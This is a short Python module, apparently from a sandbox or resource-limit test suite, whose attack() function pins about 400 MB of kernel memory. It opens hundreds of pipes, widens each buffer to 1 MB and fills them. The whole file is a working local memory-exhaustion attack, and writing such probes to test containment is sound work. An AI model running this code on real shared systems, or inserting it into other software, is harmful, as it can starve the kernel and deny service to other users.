"""Makes its pipes as wide as they may be, and fills them: memory of the kernel's."""

import fcntl
import os

from attacking import at_first, outcome

kept = []


def attack():
    """400 MB, in hundreds of pipes of a megabyte each."""
    filled = 0
    for _ in range(400):
        try:
            pipe = os.pipe()
        except OSError as error:
            return {"filled": filled // 2**20, "why": os.strerror(error.errno)}
        kept.append(pipe)
        outcome(fcntl.fcntl, pipe[1], fcntl.F_SETPIPE_SZ, 2**20)
        os.set_blocking(pipe[1], False)
        try:
            while True:
                filled += os.write(pipe[1], bytes(65536))
        except BlockingIOError:
            pass
    return {"filled": filled // 2**20, "why": ""}


choose = at_first(attack)
